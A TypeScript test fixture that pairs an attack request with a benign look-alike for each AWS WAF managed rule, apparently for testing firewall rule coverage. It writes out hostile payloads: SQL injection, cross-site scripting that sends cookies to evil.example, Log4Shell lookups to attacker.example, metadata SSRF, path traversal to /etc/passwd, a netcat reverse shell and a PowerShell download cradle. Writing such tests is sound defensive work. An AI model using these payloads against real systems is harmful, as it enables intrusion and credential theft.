/** Test-only: one attack and one look-alike benign request for every managed rule. */
import type { ReqInit } from './test-helpers.js';

const json = (o: unknown): ReqInit => ({ method: 'POST', target: '/api/items', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify(o) });
const form = (s: string): ReqInit => ({ method: 'POST', target: '/submit', headers: { 'Content-Type': 'application/x-www-form-urlencoded' }, body: s });
const get = (target: string, headers?: Record<string, string | undefined>): ReqInit => ({ target, ...(headers ? { headers } : {}) });
const cookie = (c: string): ReqInit => get('/', { Cookie: c });
const ua = (userAgent: string): ReqInit => get('/', { 'User-Agent': userAgent });

/** rule name → [attack, benign look-alike]. */
export const RULE_CASES: Record<string, Record<string, readonly [ReqInit, ReqInit]>> = {
  AWSManagedRulesCommonRuleSet: {
    NoUserAgent_HEADER: [get('/', { 'User-Agent': undefined }), get('/', { 'User-Agent': 'curl/8.5.0' })],
    UserAgent_BadBots_HEADER: [get('/', { 'User-Agent': 'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None)' }), get('/', { 'User-Agent': 'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) Firefox/125.0' })],
    SizeRestrictions_QUERYSTRING: [get(`/search?q=${'a'.repeat(2100)}`), get(`/search?q=${'a'.repeat(2000)}`)],
    SizeRestrictions_Cookie_HEADER: [cookie(`big=${'x'.repeat(10300)}`), cookie(`big=${'x'.repeat(9000)}`)],
    SizeRestrictions_BODY: [form(`data=${'x'.repeat(9000)}`), form(`data=${'x'.repeat(8000)}`)],
    SizeRestrictions_URIPATH: [get(`/${'p'.repeat(1100)}`), get(`/${'p'.repeat(1000)}`)],
    EC2MetaDataSSRF_BODY: [json({ url: 'http://169.254.169.254/latest/meta-data/iam/' }), json({ url: 'http://169.254.1.1/status' })],
    EC2MetaDataSSRF_COOKIE: [cookie('next=http%3A%2F%2F0xa9fea9fe%2Flatest'), cookie('next=%2Faccount')],
    EC2MetaDataSSRF_URIPATH: [get('/proxy/http://[::ffff:a9fe:a9fe]/latest/meta-data'), get('/proxy/http/example.com/latest/news')],
    EC2MetaDataSSRF_QUERYARGUMENTS: [get('/fetch?url=http://2852039166/latest/user-data'), get('/fetch?url=https://images.example.com/2852.png')],
    GenericLFI_QUERYARGUMENTS: [get('/download?file=..%2F..%2F..%2Fetc%2Fpasswd'), get('/download?file=reports/2024/q1.pdf')],
    GenericLFI_URIPATH: [get('/static/%2e%2e/%2e%2e/app/config.yml'), get('/static/css/app.min.css')],
    GenericLFI_BODY: [form('template=....//....//boot.ini'), form('comment=Wait... what? That is odd...')],
    RestrictedExtensions_URIPATH: [get('/logs/access.log'), get('/blog/how-to-read-a-log')],
    RestrictedExtensions_QUERYARGUMENTS: [get('/view?f=settings.ini'), get('/view?f=settings.html&note=the config matters')],
    GenericRFI_QUERYARGUMENTS: [get('/page?inc=http://10.12.0.5/shell.txt'), get('/page?return=https://www.example.com/home')],
    GenericRFI_BODY: [form('src=ftp%3A%2F%2F192.168.4.20%2Fpayload'), form('website=https%3A%2F%2Fblog.example.org%2F2024')],
    GenericRFI_URIPATH: [get('/redirect/http://172.16.9.9/x'), get('/redirect/home')],
    CrossSiteScripting_COOKIE: [cookie('pref=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E'), cookie('pref=lang%3Den-GB')],
    CrossSiteScripting_QUERYARGUMENTS: [get('/search?q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E'), get('/search?q=5%20%3C%2010%20and%20x%20%3E%202')],
    CrossSiteScripting_BODY: [json({ bio: '<svg/onload=fetch("//evil.example/"+document.cookie)>' }), json({ bio: 'I <3 cats & "dogs"; use a < b > c' })],
    CrossSiteScripting_URIPATH: [get('/profile/%3Cscript%3Ealert(1)%3C%2Fscript%3E'), get('/profile/jane-doe')],
  },
  AWSManagedRulesKnownBadInputsRuleSet: {
    JavaDeserializationRCE_HEADER: [get('/', { 'X-Api-Version': '(java.lang.Runtime).getRuntime().exec("whoami")' }), get('/', { 'X-Api-Version': '2024-01-01' })],
    JavaDeserializationRCE_BODY: [form('class.module.classLoader.resources.context.parent.pipeline.first.pattern=x'), form('class=economy&module=3')],
    JavaDeserializationRCE_URIPATH: [get('/functionRouter/T(java.lang.Runtime).getRuntime().exec(%22id%22)'), get('/function/router/list')],
    JavaDeserializationRCE_QUERYSTRING: [get('/api?data=rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ'), get('/api?data=hello-world')],
    Host_localhost_HEADER: [get('/', { Host: 'localhost:8080' }), get('/', { Host: 'localhost.example.com' })],
    PROPFIND_METHOD: [{ method: 'PROPFIND', target: '/dav/' }, { method: 'OPTIONS', target: '/dav/' }],
    ExploitablePaths_URIPATH: [get('/app/WEB-INF/web.xml'), get('/app/web-info/about')],
    Log4JRCE_HEADER: [get('/', { 'X-Forwarded-For': '${${lower:j}ndi:${lower:l}dap://attacker.example/a}' }), get('/', { 'X-Forwarded-For': '198.51.100.4' })],
    Log4JRCE_QUERYSTRING: [get('/?q=%24%7B%24%7B%3A%3A-j%7D%24%7B%3A%3A-n%7Ddi%3Armi%3A%2F%2Fx.example%2Fa%7D'), get('/?q=price%20%24100%20%7Bbest%7D')],
    Log4JRCE_BODY: [json({ name: '${jndi:ldap://attacker.example:1389/Exploit}' }), json({ name: 'Total: $100 {approx}' })],
    Log4JRCE_URIPATH: [get('/$%7Bjndi:dns://x.example/a%7D'), get('/prices/100-dollars')],
    ReactJSRCE_BODY: [json({ then: '$1:__proto__:then', status: 'resolved_model', _response: { _formData: { get: '$1:constructor:constructor' } } }), json({ then: 'later', status: 'resolved' })],
  },
  AWSManagedRulesSQLiRuleSet: {
    SQLi_QUERYARGUMENTS: [get("/item?id=1'%20OR%20'1'%3D'1"), get("/item?name=O'Brien%20and%20sons")],
    SQLiExtendedPatterns_QUERYARGUMENTS: [get('/item?id=1%20AND%20SLEEP(5)'), get('/item?id=1&note=I%20need%20sleep%20tonight')],
    SQLi_BODY: [form("user=admin'--&pass=x"), form("comment=It's a lovely day, isn't it? Let's select a table for two.")],
    SQLiExtendedPatterns_BODY: [json({ q: "x' AND (SELECT 1 FROM information_schema.tables)" }), json({ q: 'The information about schemas is in chapter 3.' })],
    SQLi_COOKIE: [cookie("uid=1%20UNION%20SELECT%20password%20FROM%20users--"), cookie('uid=12345')],
    SQLi_URIPATH: [get("/users/1'%20or%201=1--"), get('/users/1234/orders')],
  },
  AWSManagedRulesLinuxRuleSet: {
    LFI_URIPATH: [get('/files/..%2f..%2fetc%2fshadow'), get('/files/etcetera/shadow-puppets')],
    LFI_QUERYSTRING: [get('/read?path=/proc/self/environ'), get('/read?path=/docs/process/self-care')],
    LFI_HEADER: [get('/', { Referer: '../../../../etc/passwd' }), get('/', { Referer: 'https://example.com/etc/about' })],
  },
  AWSManagedRulesUnixRuleSet: {
    UNIXShellCommandsVariables_QUERYSTRING: [get('/ping?host=8.8.8.8%3Bcat%20/etc/passwd'), get('/ping?host=8.8.8.8&note=the%20cat%20sat%3B%20more%20later')],
    UNIXShellCommandsVariables_BODY: [form('host=127.0.0.1%7Cnc%20-e%20/bin/sh%2010.0.0.1%204444'), form("msg=Tom%20%26%20Jerry%3B%20echo%20chamber")],
    UNIXShellCommandsVariables_HEADER: [get('/', { 'User-Agent': '() { :; }; /bin/bash -c "id"' }), get('/', { 'User-Agent': 'Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0' })],
  },
  AWSManagedRulesWindowsRuleSet: {
    WindowsShellCommands_COOKIE: [cookie('q=x%7C%7Ccmd%20%2Fc%20whoami'), cookie('q=command%20center')],
    WindowsShellCommands_QUERYARGUMENTS: [get('/lookup?d=a.com%26%26nslookup%20evil.example'), get('/lookup?d=a.com&type=MX')],
    WindowsShellCommands_BODY: [form('path=x%26type%20C:%5Cwindows%5Cwin.ini'), form('path=My%20documents%20%26%20type%20of%20files')],
    PowerShellCommands_COOKIE: [cookie('x=IEX(New-Object%20Net.WebClient).DownloadString(%27http://e.example/a%27)'), cookie('x=new%20objects%20in%20stock')],
    PowerShellCommands_QUERYARGUMENTS: [get('/run?c=powershell.exe%20-nop%20-w%20hidden%20-enc%20SQBFAFgA'), get('/run?c=powershell%20tutorial%20for%20beginners')],
    PowerShellCommands_BODY: [json({ cmd: 'Invoke-Expression $payload' }), json({ cmd: 'Please invoke the expression builder' })],
  },
  AWSManagedRulesPHPRuleSet: {
    PHPHighRiskMethodsVariables_HEADER: [get('/', { 'X-Data': '<?php system($_GET["c"]); ?>' }), get('/', { 'X-Data': 'php version 8.3' })],
    PHPHighRiskMethodsVariables_QUERYSTRING: [get('/?page=php://filter/convert.base64-encode/resource=index'), get('/?page=php-tutorial&filter=new')],
    PHPHighRiskMethodsVariables_BODY: [form('code=fsockopen(%2210.0.0.1%22,4444)'), form('text=The system (as designed) is fine; eval later.')],
  },
  AWSManagedRulesWordPressRuleSet: {
    WordPressExploitableCommands_QUERYSTRING: [get('/wp-admin/tools.php?page=wordpress-reset&do-reset-wordpress=1'), get('/wp-admin/tools.php?page=export')],
    WordPressExploitablePaths_URIPATH: [{ method: 'POST', target: '/xmlrpc.php', body: '<methodCall/>' }, get('/blog/xmlrpc-explained')],
  },
  AWSManagedRulesAdminProtectionRuleSet: {
    AdminProtection_URIPATH: [get('/phpmyadmin/index.php'), get('/blog/administrative-law')],
  },
  AWSManagedRulesAmazonIpReputationList: {
    AWSManagedIPReputationList: [{ target: '/', clientIp: '198.51.100.10' }, { target: '/', clientIp: '198.51.100.11' }],
    AWSManagedReconnaissanceList: [{ target: '/', clientIp: '198.51.100.21' }, { target: '/', clientIp: '198.51.100.22' }],
    AWSManagedIPDDoSList: [{ target: '/', clientIp: '198.51.100.30' }, { target: '/', clientIp: '198.51.100.31' }],
  },
  AWSManagedRulesAnonymousIpList: {
    AnonymousIPList: [{ target: '/', clientIp: '198.51.100.40' }, { target: '/', clientIp: '198.51.100.42' }],
    HostingProviderIPList: [{ target: '/', clientIp: '198.51.100.200' }, { target: '/', clientIp: '198.51.100.127' }],
  },
  AWSManagedRulesBotControlRuleSet: {
    CategoryAdvertising: [ua('AdsBot-Google (+http://www.google.com/adsbot.html)'), get('/ads/adsbot-google-explained')],
    CategoryArchiver: [ua('Mozilla/5.0 (compatible; archive.org_bot +http://archive.org/details/archive.org_bot)'), get('/archive.org/collections')],
    CategoryContentFetcher: [ua('Feedly/1.0 (+http://www.feedly.com/fetcher.html; 12 subscribers)'), get('/feeds/feedly-import')],
    CategoryEmailClient: [ua('Mozilla/5.0 (Windows NT 5.1; rv:11.0) Gecko Firefox/11.0 (via ggpht.com GoogleImageProxy)'), get('/mail/googleimageproxy-faq')],
    CategoryHttpLibrary: [ua('python-requests/2.31.0'), get('/docs/python-requests')],
    CategoryLinkChecker: [ua('W3C-checklink/5.0.0 libwww-perl/6.72'), get('/tools/w3c-checklink')],
    CategoryMiscellaneous: [ua('Mozilla/5.0 (compatible; AcmeCrawler/1.0; +https://acme.example/crawler)'), get('/blog/how-a-web-crawler-works')],
    CategoryMonitoring: [ua('Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)'), get('/status/uptimerobot')],
    CategoryScrapingFramework: [ua('Scrapy/2.11.0 (+https://scrapy.org)'), get('/search?q=scrapy+tutorial')],
    CategorySearchEngine: [ua('Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)'), get('/help/googlebot', { Referer: 'https://www.google.com/' })],
    CategorySecurity: [ua('Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)'), get('/docs/nmap-basics')],
    CategorySeo: [ua('Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)'), get('/seo/ahrefsbot-vs-semrushbot')],
    CategorySocialMedia: [ua('facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)'), ua('Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 [FBAN/FBIOS;FBAV/458.0.0.38.108]')],
    CategoryAI: [ua('Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)'), get('/blog/what-is-gptbot')],
    SignalAutomatedBrowser: [ua('Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/124.0.0.0 Safari/537.36'), ua('Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36')],
    SignalKnownBotDataCenter: [{ target: '/', clientIp: '198.51.100.200' }, { target: '/', clientIp: '203.0.113.9' }],
    SignalNonBrowserUserAgent: [ua('AcmeShop/3.2 (iPhone; iOS 17.4; Scale/3.00)'), ua('Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1')],
  },
};
